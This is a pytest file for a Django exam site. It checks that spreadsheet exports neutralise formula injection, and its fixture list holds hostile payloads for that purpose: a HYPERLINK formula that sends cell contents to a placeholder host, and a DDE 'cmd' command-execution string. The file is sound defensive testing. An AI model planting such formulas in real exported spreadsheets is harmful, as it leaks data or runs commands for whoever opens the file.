"""Item 7 of issue 11: formula injection in the spreadsheets the site writes.

Each test plants formula-like text where an attacker could (an officer's name, a question stem,
a unit name), downloads the real export through the real view, opens it with openpyxl and checks
that no cell holds a formula while the text reads back unchanged."""

import ast
import io
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from django.urls import reverse

from core.spreadsheets import FORMULA_PREFIXES, workbook_bytes

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
HYPERLINK = '=HYPERLINK("http://x/?d="&A3,"点我")'
HOSTILE = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\tTAB", "\r=1+1", "=1+1"]


def cells(content: bytes):
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


def assert_no_formulas(content: bytes, expected_texts):
    found = {}
    for cell in cells(content):
        assert cell.data_type != "f", f"{cell.coordinate} holds a formula: {cell.value!r}"
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_PREFIXES):
            assert cell.quotePrefix, f"{cell.coordinate} is not marked as text"
        found[cell.value] = cell
    for text in expected_texts:
        assert text in found, f"{text!r} is missing or changed in the export"


def test_helper_keeps_the_visible_text_and_stores_no_formula():
    workbook = Workbook()
    sheet = workbook.active
    sheet.append([*HOSTILE, "普通文字", 42, -5])
    data = workbook_bytes(workbook)
    assert_no_formulas(data, HOSTILE)
    row = next(load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True))
    assert list(row[-3:]) == ["普通文字", 42, -5]  # numbers stay numbers, plain text is untouched


def test_results_export_does_not_turn_an_officer_name_into_a_formula(
    client, make_exam, make_user, units, legal_staff
):
    exam = make_exam(title="=1+2 月考")
    attacker = make_user("officer", unit=units["patrol"], full_name=HYPERLINK)
    make_user("officer", unit=units["patrol"], full_name="@SUM(A1:A9)")  # absent: second sheet
    client.force_login(attacker)
    attempt = client.post(f"/api/exams/{exam.pk}/start/").json()["attempt"]
    client.post(f"/api/exams/attempts/{attempt}/submit/")
    client.force_login(legal_staff)
    response = client.get(f"/exams/{exam.pk}/results.xlsx?unit={units['patrol'].pk}")
    assert response.status_code == 200
    assert_no_formulas(response.content, [HYPERLINK, "@SUM(A1:A9)", "=1+2 月考"])


def test_bank_export_keeps_a_formula_like_stem_as_text_and_imports_again_unchanged(
    client, legal_staff, make_question
):
    make_question(stem="=1+1 是否等于二？", options=["-是", "+否", "@都不是"], answer="A")
    client.force_login(legal_staff)
    response = client.get(reverse("questions_export"))
    assert response.status_code == 200
    assert_no_formulas(response.content, ["=1+1 是否等于二？", "-是", "+否", "@都不是"])
    from questions.bankfile import parse_bytes

    parsed = parse_bytes("export.xlsx", response.content)
    assert not parsed.errors
    assert parsed.questions[0].stem == "=1+1 是否等于二？"
    assert parsed.questions[0].options[:3] == ("-是", "+否", "@都不是")


def test_roster_template_keeps_a_formula_like_unit_name_as_text(client, legal_staff, units):
    unit = units["station"]
    unit.name = '=HYPERLINK("http://x/","单位")'
    unit.save()
    client.force_login(legal_staff)
    response = client.get(reverse("accounts:roster_template"))
    assert response.status_code == 200
    assert_no_formulas(response.content, ['　=HYPERLINK("http://x/","单位")'])


def test_every_module_that_builds_a_workbook_saves_it_through_the_helper():
    """A new export that calls ``workbook.save`` itself would skip the neutralising."""
    offenders = []
    for path in [*ROOT.glob("site/**/*.py"), *ROOT.glob("*/**/*.py")]:
        if ".venv" in path.parts or "tests" in path.parts or "bench" in path.parts:
            continue
        source = path.read_text(encoding="utf-8")
        if "Workbook(" not in source:
            continue
        tree = ast.parse(source)
        saves = [
            node
            for node in ast.walk(tree)
            if isinstance(node, ast.Call)
            and isinstance(node.func, ast.Attribute)
            and node.func.attr == "save"
            and isinstance(node.func.value, ast.Name)
            and node.func.value.id in ("wb", "workbook", "book")
        ]
        if saves or "workbook_bytes" not in source:
            offenders.append(str(path.relative_to(ROOT)))
    assert offenders == [], offenders
